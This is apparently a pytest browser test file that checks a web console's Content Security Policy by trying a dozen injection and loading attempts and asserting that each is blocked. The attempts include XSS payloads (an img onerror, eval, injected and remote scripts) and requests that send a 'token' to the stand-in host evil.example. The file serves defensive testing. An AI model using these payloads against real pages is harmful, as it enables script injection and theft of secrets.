"""The browser keeps what the policy of the page forbids, whatever a text on the page contains."""

from typing import Any

import pytest

from tests.browser.conftest import NewPage, Page
from tests.browser.served import Served

pytestmark = pytest.mark.browser
# Try something, and say which rules of the policy were broken, and what it threw.
TRY = """async (code) => {
    const broken = [];
    const note = (event) => broken.push(event.effectiveDirective);
    document.addEventListener('securitypolicyviolation', note);
    // In a task of its own: the policy does not hold for what a debugger evaluates.
    await new Promise((resolve) => setTimeout(resolve));
    const thrown = await attempts[code]().then(() => null, (error) => error.name);
    // The browser tells of it in a task of its own, on a busy machine some time later.
    for (let waits = 0; !broken.length && waits < 300; waits += 1) {
        await new Promise((resolve) => setTimeout(resolve, 100));
    }
    await new Promise((resolve) => setTimeout(resolve, 100));
    document.removeEventListener('securitypolicyviolation', note);
    return { broken: [...new Set(broken)], thrown, ran: window.ran ?? null };
}"""
ATTEMPTS = """window.attempts = {
    markup: async () => { document.body.innerHTML = '<img src=x onerror="window.ran = 1">'; },
    code: async () => eval('window.ran = 1'),
    script: async () => {
        const script = document.createElement('script');
        script.append('window.ran = 1');
        document.body.append(script);
    },
    'script elsewhere': async () => {
        const script = document.createElement('script');
        script.setAttribute('src', 'https://evil.example/x.js');
        document.body.append(script);
    },
    handler: async () => {
        const button = document.createElement('button');
        button.setAttribute('onclick', 'window.ran = 1');
        button.click();
    },
    style: async () => document.body.setAttribute('style', 'background: red'),
    request: async () => fetch('https://evil.example/?token'),
    image: async () => {
        const image = new Image();
        image.src = 'https://evil.example/?token';
        await new Promise((resolve) => { image.onerror = resolve; });
    },
    form: async () => {
        const form = document.createElement('form');
        form.action = 'https://evil.example/';
        document.body.append(form);
        form.submit();
    },
    base: async () => {
        const base = document.createElement('base');
        base.href = 'https://evil.example/';
        document.head.append(base);
    },
    frame: async () => {
        const frame = document.createElement('iframe');
        frame.src = 'https://evil.example/';
        document.body.append(frame);
    },
    worker: async () => new Worker(URL.createObjectURL(new Blob(['']))),
}"""
EXPECTED = {
    "markup": (["require-trusted-types-for"], "TypeError"),
    "code": (["require-trusted-types-for"], "EvalError"),
    "script": (["require-trusted-types-for"], None),
    "script elsewhere": (["require-trusted-types-for"], "TypeError"),
    "handler": (["require-trusted-types-for"], "TypeError"),
    "style": (["style-src-attr"], None),
    "request": (["connect-src"], "TypeError"),
    "image": (["img-src"], None),
    "form": (["form-action"], None),
    "base": (["base-uri"], None),
    "frame": (["frame-src"], None),
    "worker": (["require-trusted-types-for"], "TypeError"),
}


@pytest.fixture(scope="module")
def results(served: Served, browser: Any) -> dict[str, Any]:
    context = browser.new_context()
    page: Page = context.new_page()
    page.goto(served.console())
    page.get_by_role("heading", name="Sessions").wait_for()
    page.evaluate(ATTEMPTS)
    found = {name: page.evaluate(TRY, name) for name in EXPECTED}
    assert page.url == served.console()
    context.close()
    return found


@pytest.mark.parametrize("attempt", EXPECTED)
def test_nothing_runs_loads_or_leaves_the_page(results: dict[str, Any], attempt: str) -> None:
    broken, thrown = EXPECTED[attempt]

    assert results[attempt] == {"broken": broken, "thrown": thrown, "ran": None}


def test_no_other_page_shows_the_console_in_a_frame(served: Served, new_page: NewPage) -> None:
    page = new_page(expects_errors=True)

    with page.expect_console_message(lambda said: "frame-ancestors 'none'" in said.text):
        page.set_content(f"<iframe src='{served.console()}'></iframe>")

    assert [frame for frame in page.frames if frame.get_by_text("Sessions").count()] == []
